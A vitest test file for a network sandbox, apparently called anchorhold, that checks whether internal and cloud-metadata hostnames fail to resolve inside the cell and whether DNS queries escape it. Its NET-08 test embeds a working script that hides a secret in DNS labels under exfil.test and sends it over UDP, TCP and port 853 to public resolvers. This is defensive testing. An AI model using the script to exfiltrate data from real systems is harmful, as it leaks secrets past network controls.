// NET-04, 08: names: nothing inside knows the host's names, and no question leaves, whoever is asked, over UDP, TCP or TLS.
import { execFile } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import { expect, it } from 'vitest'
import { inCell, makeWorld } from '../support/anchorhold.ts'
import { inside } from './attempt.ts'
import { awake, awakeUdp, nonce, tcpWitness, udpWitness } from './witnesses.ts'

it('NET-04 names of hosts and engines do not exist; the tables hold this cell alone', async () => {
  const world = makeWorld()
  const names = [
    'host.docker.internal',
    'gateway.docker.internal',
    'host.containers.internal',
    'kubernetes.default.svc',
    'metadata.google.internal',
    'host.anchorhold.internal',
    '_gateway',
    os.hostname(),
    `${os.hostname()}.local`,
    'wpad',
    'isatap',
    'evil.test',
    'api.allowed.test.evil.test',
    'xn--80ak6aa92e.test',
  ]
  const came = await inside(
    world,
    ['--allow', 'api.allowed.test'],
    [...names, 'api.allowed.test', 'API.Allowed.TEST.'].map((name) => ({ kind: 'look', name })),
  )
  expect(came.slice(0, names.length).map(({ error }) => error)).toEqual(names.map(() => 'ENOTFOUND'))
  // Control: the allowed name has one made-up address, whatever its spelling.
  expect(came.slice(-2).map(({ addresses }) => addresses)).toEqual([['198.18.0.2'], ['198.18.0.2']])
  const { stdout } = await inCell(
    world,
    'grep -hv "^#" /etc/hosts /etc/resolv.conf /etc/hostname; uname -n; ls /etc/hosts.allow /etc/host.conf /etc/nscd.conf 2>/dev/null; :',
  )
  expect(stdout).toBe(
    '127.0.0.1 localhost anchorhold\n::1 localhost\nnameserver 127.0.0.1\noptions timeout:5 attempts:1\nanchorhold\nanchorhold\n',
  )
})

/** Asks a server on the host for a name that holds the secret: over UDP, TCP and DNS's own TLS port, to public resolvers and to the witness. */
const asker = `
import dgram from 'node:dgram'
import net from 'node:net'
import dns from 'node:dns'
const [name, port] = process.argv.slice(2)
const labels = Buffer.concat(name.split('.').map((part) => Buffer.concat([Buffer.from([part.length]), Buffer.from(part)])))
const query = Buffer.concat([Buffer.from('000701000001000000000000000', 'hex').subarray(0, 12), labels, Buffer.from('0000100001', 'hex')])
const framed = Buffer.concat([Buffer.from([0, query.length]), query])
const servers = ['127.0.0.1', '127.0.0.53', '8.8.8.8', '1.1.1.1', '9.9.9.9', '192.0.2.53']
const work = []
for (const server of servers) for (const to of [53, Number(port)]) {
  work.push(new Promise((resolve) => { const s = dgram.createSocket('udp4'); s.on('error', resolve); s.send(query, to, server, () => setTimeout(() => { s.close(); resolve() }, 200)) }))
  for (const tcp of [to, 853, 443]) work.push(new Promise((resolve) => { const s = net.connect(tcp, server, () => s.end(framed)); s.on('close', resolve); s.on('error', () => {}); setTimeout(() => s.destroy(), 1500); s.resume() }))
  const resolver = new dns.promises.Resolver({ timeout: 300, tries: 1 }); resolver.setServers([server + ':' + to]); work.push(resolver.resolveTxt(name).catch(() => {}), resolver.resolve4(name).catch(() => {}))
}
work.push(dns.promises.lookup(name).catch(() => {}))
await Promise.all(work)
console.log('asked')
process.exit(0)`

it('NET-08 no question reaches a server outside: system resolver, raw UDP and TCP, DNS over TLS, long labels full of data', async () => {
  const world = makeWorld()
  const [udp, tcp, secret] = [await udpWitness(), await tcpWitness(), nonce()]
  await awakeUdp(udp)
  await awake(tcp, { host: '127.0.0.1', port: tcp.port })
  writeFileSync(path.join(world.project, 'ask.mjs'), asker)
  const name = `${secret}.${'a'.repeat(60)}.exfil.test`
  const { stdout, code } = await inCell(
    world,
    `node ask.mjs ${name} ${udp.port} && node ask.mjs ${name} ${tcp.port}; getent hosts ${name}; getent ahostsv6 x.${name}; :`,
    ['--allow', '*.wild.test'],
  )
  expect({ code, stdout }).toEqual({ code: 0, stdout: 'asked\nasked\n' })
  expect([udp.text(), udp.hits(), tcp.text(), tcp.hits()]).toEqual(['control', 1, '', 1])
  await promisify(execFile)('node', ['ask.mjs', name, String(udp.port)], { cwd: world.project, timeout: 10_000 })
  expect(udp.text()).toContain(secret)
})
